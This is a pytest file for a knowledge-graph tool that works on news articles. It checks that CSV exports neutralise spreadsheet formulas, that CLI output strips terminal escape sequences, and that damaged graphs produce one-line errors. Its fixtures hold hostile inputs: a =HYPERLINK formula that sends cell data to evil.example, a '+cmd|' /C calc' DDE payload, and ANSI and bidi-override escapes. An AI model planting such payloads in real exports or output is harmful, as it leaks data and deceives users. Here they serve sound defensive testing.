"""Text from articles is data everywhere it goes: never a spreadsheet formula, never a terminal
command, never a reason for two nodes to become one; and a damaged graph is one line of error."""

from __future__ import annotations

import csv
import json

import networkx as nx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from typer.testing import CliRunner

from extractors.records import ArticleRecord, Mention, Person, Quote
from kg.build import build_graph
from kg.cli import app
from kg.cli._terminal import _JSON_UNSAFE, json_parts_for_terminal
from kg.readwrite import read_graphml, write_gexf, write_graphml, write_json, write_statements

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESCAPES = "\x1b[2J\x1b]8;;http://evil.example\x07trusted link\x1b]8;;\x07 \u202eevil\x9b31m"


def _m(text: str) -> Mention:
    return Mention(text=text, start=0, end=len(text), sentence=text)


def _record(article_id: str, content: str, *, title: str = "Title", speaker: str = "Jane Smith") -> ArticleRecord:
    person = Person(id="p1", name=speaker, mentions=[_m(speaker)])
    quote = Quote(id="q1", speaker=speaker, speaker_id="p1", cue="said", cue_class="neutral", type="indirect",
                  content=content, start=0, end=len(content), sentence=content)
    return ArticleRecord(id=article_id, title=title, model="test", people=[person], quotes=[quote])


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_statements_csv_cells_never_run_as_formulas(tmp_path):
    G = build_graph([_record("a1", FORMULA, title="+cmd|' /C calc'!A0", speaker="@SUM(1+1)"),
                     _record("a2", "-2+3 is fine", title="\t=1+1")])
    write_statements(G, tmp_path / "safe.csv")
    cells = [value for row in _rows(tmp_path / "safe.csv") for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rows = _rows(tmp_path / "safe.csv")
    assert rows[0]["content"] == "'" + FORMULA and rows[0]["title"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["content"] == "'-2+3 is fine" and rows[1]["title"] == "'\t=1+1"
    write_statements(G, tmp_path / "raw.csv", formulas=True)
    assert _rows(tmp_path / "raw.csv")[0]["content"] == FORMULA


@pytest.mark.integration
@pytest.mark.usefixtures("nlp")  # the kg runs take the session pipeline
def test_build_neutralises_csv_formulas_unless_told(tmp_path):
    text = "Jane Smith, the council leader, said the budget was balanced this year."
    (tmp_path / "a.jsonl").write_text(json.dumps({"id": "a", "title": "=1+1", "text": text}) + "\n")
    for extra, title in (([], "'=1+1"), (["--csv-formulas"], "=1+1")):
        out = tmp_path / f"out{len(extra)}"
        result = CliRunner().invoke(app, ["build", str(tmp_path / "a.jsonl"), "--out", str(out), *extra])
        assert result.exit_code == 0, result.output
        assert {row["title"] for row in _rows(out / "statements.csv")} == {title}


def test_ids_that_differ_only_by_a_control_character_stay_two_nodes(tmp_path):
    G = build_graph([_record("a\x07", "First article's claim."), _record("a", "Second article's claim.")])
    write_graphml(G, tmp_path / "g.graphml")
    H = read_graphml(tmp_path / "g.graphml")
    contents = {d["content"] for _, d in H.nodes(data=True) if d.get("type") == "quote"}
    assert contents == {"First article's claim.", "Second article's claim."}
    assert H.number_of_nodes() == G.number_of_nodes()
    write_gexf(G, tmp_path / "g.gexf")
    assert nx.read_gexf(tmp_path / "g.gexf").number_of_nodes() == G.number_of_nodes()


@pytest.fixture
def hostile_graph(tmp_path):
    write_json(build_graph([_record("a1", f"we must act {ESCAPES}", title=f"Title {ESCAPES}",
                                    speaker="Jane Smith")]), tmp_path / "graph.json")
    return tmp_path


@pytest.mark.parametrize("command", [["quotes"], ["articles"], ["people"], ["quotes", "--json"]])
def test_query_output_holds_no_escape_sequence(hostile_graph, command):
    result = CliRunner(env={"COLUMNS": "300"}).invoke(app, ["query", str(hostile_graph), *command])
    assert result.exit_code == 0, result.output
    for unsafe in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert unsafe not in result.output
    if "--json" in command:  # the data is all there, escaped
        assert json.loads(result.output)[0]["content"] == f"we must act {ESCAPES}"
    elif command != ["people"]:
        assert "trusted link" in result.output


_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.tuples(inner, inner) | st.dictionaries(st.text(), inner)
    | st.dictionaries(st.integers() | st.booleans(), inner), max_leaves=20)


@given(_JSON_VALUES)
@example(["a", "b\x9b\u2028"])
@example({"roles": [{"former": False, "organisation": None, "n": 1}], "articles": ["a1", "a2"], "empty": []})
def test_query_json_is_json_dumps_with_what_a_terminal_acts_on_escaped(value):
    expected = _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", json.dumps(value, indent=2, ensure_ascii=False))
    assert "".join(json_parts_for_terminal(value)) == expected


@pytest.mark.parametrize(("name", "content", "message"), [
    ("graph.graphml", None, "graph.graphml: not valid XML ("),
    ("graph.json", '{"nodes": [', "graph.json: not valid JSON (Expecting value at line 1, column 12)"),
    ("graph.json", '{"nodes": 5, "edges": []}', "graph.json: not a claims graph (TypeError"),
    ("records.jsonl", '{"id": "a"', "records.jsonl:1: not an article record"),
])
def test_a_damaged_graph_is_one_line_naming_the_file(tmp_path, name, content, message):
    if content is None:  # a GraphML file cut short
        write_graphml(build_graph([_record("a1", "A claim.")]), tmp_path / name)
        data = (tmp_path / name).read_bytes()
        (tmp_path / name).write_bytes(data[: len(data) // 2])
    else:
        (tmp_path / name).write_text(content)
    result = CliRunner().invoke(app, ["query", str(tmp_path / name), "people"])
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: ") and message in line


def test_a_bad_value_in_a_graph_is_one_line_naming_the_file(tmp_path):
    G = build_graph([_record("a1", "A claim.")])
    for _, data in G.nodes(data=True):
        if data["type"] == "quote":
            data["start"] = "not a number"
    write_json(G, tmp_path / "graph.json")
    result = CliRunner().invoke(app, ["query", str(tmp_path), "quotes"])
    assert result.exit_code == 2 and "Traceback" not in result.output
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"error: {tmp_path}: cannot answer from this graph (ValueError: invalid literal")


@pytest.mark.integration
@pytest.mark.usefixtures("nlp")  # the kg runs take the session pipeline
def test_errors_and_summaries_print_no_escape_sequence(tmp_path):
    (tmp_path / f"bad{ESCAPES[:4]}.txt").write_bytes(b"")
    (tmp_path / "good.txt").write_text("Jane Smith said yes.")
    result = CliRunner().invoke(app, ["extract", str(tmp_path), "--out", str(tmp_path / "r.jsonl")])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "/bad.txt: empty file" in result.stderr


@pytest.mark.parametrize("extra", [[], ["--reasons"], ["--json"]])
def test_actor_listings_hold_no_escape_sequence(tmp_path, extra):
    write_json(build_graph([_record("a1", "we must act", speaker=f"Jane {ESCAPES}")]), tmp_path / "graph.json")
    result = CliRunner(env={"COLUMNS": "300"}).invoke(app, ["actors", str(tmp_path / "graph.json"), *extra])
    assert result.exit_code == 0, result.output
    for unsafe in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert unsafe not in result.output
    if extra == ["--json"]:
        assert json.loads(result.output)[0]["name"] == f"Jane {ESCAPES}".strip()
    else:
        assert "Jane" in result.output
